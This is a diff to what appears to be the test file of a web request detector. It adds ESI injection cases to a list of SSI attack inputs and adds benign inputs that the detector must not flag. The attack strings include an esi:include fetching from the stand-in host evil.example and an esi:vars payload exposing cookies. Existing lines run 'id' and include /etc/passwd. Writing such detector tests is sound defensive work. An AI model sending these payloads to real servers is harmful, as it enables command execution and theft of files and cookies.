@@ -112,10 +112,17 @@ const SSI: Case[] = [
   ["query", "q=%3C!--%23exec%20cmd%3D%22id%22%20--%3E"],
   ["body:form", "name=%3C!--%23include%20virtual%3D%22%2Fetc%2Fpasswd%22%20--%3E"],
   ["body:json", JSON.stringify({ comment: "<!--#echo var=\"DOCUMENT_ROOT\" -->" })],
+  // ESI elements, which a caching proxy that processes Edge Side Includes runs (core/ssi.ts esiElement).
+  ["body:form", "name=%3Cesi%3Ainclude%20src%3D%22http%3A%2F%2Fevil.example%2F%22%2F%3E"],
+  ["query", "q=%3Cesi%3Avars%3E%24(HTTP_COOKIE)%3C%2Fesi%3Avars%3E"],
+  ["query", "q=%3CESI%3AInclude%0Asrc%3D%22%2F%2Fevil.example%22%3E"],
+  ["body:json", JSON.stringify({ bio: "<esi:debug/>" })],
 ];
 const NOT_SSI: Case[] = [
   ["body:json", JSON.stringify({ html: "<p>Hello</p><!-- note for editors -->" })],
   ["body:json", JSON.stringify({ html: "<a href=\"#top\">top</a><!--#main-->" })],
+  ["query", "q=esi%20include%20tags"],
+  ["body:json", JSON.stringify({ html: "<esimated>1</esimated><esi:unknown/>" })],
 ];
 const NOT_SHELLSHOCK: Case[] = [
   ["body:json", JSON.stringify({ code: "class A { render() { return 1; } }" })],
